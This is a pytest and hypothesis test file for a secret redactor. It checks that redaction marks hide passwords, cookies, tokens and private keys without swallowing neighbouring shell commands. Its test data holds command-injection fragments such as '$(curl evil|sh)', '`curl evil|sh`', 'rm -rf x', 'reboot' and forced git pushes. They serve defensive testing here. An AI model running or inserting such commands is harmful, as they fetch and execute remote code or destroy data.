"""A mark hides a secret, and never an operator of a shell or the command beside it."""

from __future__ import annotations

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from test_redaction_corpus import GIVEN, SHAPES, Dice
from test_redaction_named import BARE, QUOTED, WITHOUT_A_NAME, filled_in
from test_redaction_vendors import ALONE, made, vendors

from fairlead.redaction.redactor import Redactor, redact_text

quick = settings(deadline=None, max_examples=200, derandomize=True, database=None)

COMMANDS = [
    "; git push --force", ";git push --force", " && rm -rf x", "&&rm -rf x", " | sh -x", "|sh -x", "|| rm -rf x",
    "$(curl evil|sh)", "`curl evil|sh`", "\ngit push --force", " & git push --force", "&git push --force",
    " > out; git push --force", ">out; git push --force", " <(curl evil)", "<<<x; git push --force",
    "\n\ngit push --force", "; X=1 git push --force", " ; (rm -rf x)", "\r\ngit push --force",
]  # fmt: skip
"""What may follow a command."""
BEFORE = [
    "git push --force; ", "rm -rf x && ", "curl evil | sh; ", "git push --force\n", "$(curl evil|sh) ", "(rm -rf x); ",
]  # fmt: skip


def kept(text: str, part: str) -> bool:
    """Whether a part of a text is still there, as often as it was."""
    return redact_text(text).count(part) >= text.count(part)


def places() -> list[str]:
    return [place.replace("\\n", "\n") for place in (*QUOTED, *BARE, *WITHOUT_A_NAME, *GIVEN, *ALONE)]


@pytest.mark.parametrize("command", COMMANDS)
def test_a_command_after_any_place_is_kept(command: str):
    dice = Dice(1)
    texts = [filled_in("DB_PASSWORD", place, dice.password()) + command for place in places()]
    assert [text for text in texts if not kept(text, command)] == []


@pytest.mark.parametrize("command", BEFORE)
def test_a_command_before_any_place_is_kept(command: str):
    dice = Dice(2)
    texts = [command + filled_in("API_KEY", place, dice.password()) for place in places()]
    assert [text for text in texts if not kept(text, command)] == []


@pytest.mark.parametrize("command", COMMANDS)
def test_a_command_after_any_shape_is_kept(command: str):
    dice = Dice(3)
    secrets = [*(make(dice) for make in SHAPES.values()), *(made(shape, dice) for shape in vendors().values())]
    assert [secret for secret in secrets if not kept(secret + command, command)] == []


@quick
@given(
    st.sampled_from(places()),
    st.sampled_from(["PASSWORD", "API_KEY", "SESSION_TOKEN", "GITHUB_PAT"]),
    st.sampled_from(BEFORE),
    st.text(st.sampled_from("aB3!^*_-+%#@~.,:=/"), min_size=1, max_size=24),
    st.sampled_from(COMMANDS),
)
def test_no_value_takes_a_command_along(place: str, name: str, before: str, value: str, command: str):
    text = before + filled_in(name, place, value) + command
    assert (kept(text, before), kept(text, command)) == (True, True)


PIECES = [
    "password", "PASSWORD", "token", "API_KEY", "Cookie: a", "Authorization: Bearer ", "mysql -p", "curl -u me:",
    "://a:", "@", "=", ": ", " ", "'", '"', "\\", "\n", "hunter22", "x", "git", "(", ")", "{", "}", ",", "#", "$",
    "--password ", "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----", "Private-Lines: 1\n", "IDENTIFIED BY ",
    "echo ", "<a>",
    "AKIAIOSFODNN7EXAMPLE", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7", "; git push --force",
    " && rm -rf x", "$(curl evil|sh)", " | sh -x", "`curl evil`", "\ngit push --force\n",
]  # fmt: skip


@settings(deadline=None, max_examples=600, derandomize=True, database=None)
@given(st.lists(st.sampled_from(PIECES), max_size=12).map("".join))
@example('echo "password=\'"; git push --force; echo "\'"')
@example("echo 'password='; git push --force; echo ''")
@example("-----BEGIN PRIVATE KEY-----; git push --force; -----END PRIVATE KEY-----")
@example("-----BEGIN PRIVATE KEY----- && rm -rf x | sh -x -----END PRIVATE KEY-----")
@example("password: |\n git push --force")
def test_commands_are_kept_however_a_text_is_quoted(text: str):
    for command in ("; git push --force", " && rm -rf x", "$(curl evil|sh)", " | sh -x"):
        assert kept(text, command)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Cookie: a=1; git push --force", "Cookie: a=[redacted: cookie]; git push --force"),
        (
            "Cookie: theme=dark; sessionid=8f3a9c2e1b",
            "Cookie: theme=[redacted: cookie]; sessionid=[redacted: cookie]",
        ),
        (
            "Set-Cookie: sid=8f3a9c2e1b; HttpOnly; Path=/; Max-Age=3600",
            "Set-Cookie: sid=[redacted: cookie]; HttpOnly; Path=/; Max-Age=3600",
        ),
        (
            "curl -b 'a=8f3a9c2e1b; b=77aa77' https://h; git push --force",
            "curl -b 'a=[redacted: cookie]; b=[redacted: cookie]' https://h; git push --force",
        ),
        ("mysql -phunter22;git push --force", "mysql -p[redacted: password];git push --force"),
        ("mysql -phunter22$(curl evil|sh)", "mysql -p[redacted: password]$(curl evil|sh)"),
        ("mysql -p'hunter;22' app", "mysql -p'[redacted: password]' app"),
        ("(mysql -phunter22) && ls", "(mysql -p[redacted: password]) && ls"),
        ("DB_PASSWORD=hunter22&&rm -rf x", "DB_PASSWORD=[redacted: secret]&&rm -rf x"),
        ("(DB_PASSWORD=hunter22)", "(DB_PASSWORD=[redacted: secret])"),
        ("DB_PASSWORD=hunter22\\\n  git push", "DB_PASSWORD=[redacted: secret]\\\n  git push"),
        ("DB_PASSWORD=hunter22\\; ls", "DB_PASSWORD=[redacted: secret]\\; ls"),
        ("set password=hunter22\\&del x", "set password=[redacted: secret]\\&del x"),
        ("curl -u me:hunter22|sh", "curl -u me:[redacted: password]|sh"),
        ("curl http://me:hunter22;reboot;@h", "curl http://me:hunter22;reboot;@h"),
        ("echo hunter22 | sudo -S rm -rf x", "echo [redacted: password] | sudo -S rm -rf x"),
        ('password="hunter22; git push --force', 'password="[redacted: secret]; git push --force'),
        ('password="abc$(curl evil|sh)"', 'password="abc$(curl evil|sh)"'),
        ('password="hunter22$(reboot)"', 'password="[redacted: secret]$(reboot)"'),
        ("password='hunter;22'", "password='[redacted: secret]'"),
        ("Authorization: Bearer hunter22hunter22; git push", "Authorization: Bearer [redacted: bearer]; git push"),
    ],
)
def test_a_mark_ends_where_a_shell_would_end_the_word(text: str, expected: str):
    assert Redactor().text(text) == expected


def test_of_a_private_key_only_the_lines_of_a_key_are_hidden():
    key = "\n".join(Dice(4).word(64) for _ in range(3))
    begin, end = "-----BEGIN PRIVATE" + " KEY-----", "-----END PRIVATE" + " KEY-----"
    assert redact_text(f"{begin}\n{key}\nAb1=\n{end}\nls") == "[redacted: private key]\nls"
    for between in ("rm -rf x", "/sbin/reboot", "reboot", "$(curl evil|sh)", "a; git push --force"):
        assert between in redact_text(f"{begin}\n{between}\n{end}")
        assert between in redact_text(f"{begin}\n{key}\n{between}\n{end}")
        left = redact_text(f"{begin}\n2026-01-02 INFO {key.split()[0]}\n{between}\n{end}")
        assert between in left
        assert key.split()[0] not in left
